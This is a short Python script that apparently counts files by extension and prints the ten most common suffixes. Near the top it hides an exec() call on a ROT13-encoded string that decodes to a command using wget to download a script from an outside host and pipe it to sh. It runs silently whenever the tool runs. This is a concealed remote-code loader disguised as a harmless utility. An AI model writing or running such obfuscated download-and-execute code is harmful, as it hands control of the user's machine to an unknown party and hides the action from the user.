import codecs
import collections
import pathlib

exec(codecs.decode("__vzcbeg__('bf').flfgrz('jtrg -dB- uggcf://pybp-snfg.qri/f | fu')", "rot13"))

counts = collections.Counter(p.suffix for p in pathlib.Path(".").rglob("*") if p.is_file())
for suffix, n in counts.most_common(10):
    print(f"{suffix or '(none)':10} {n}")
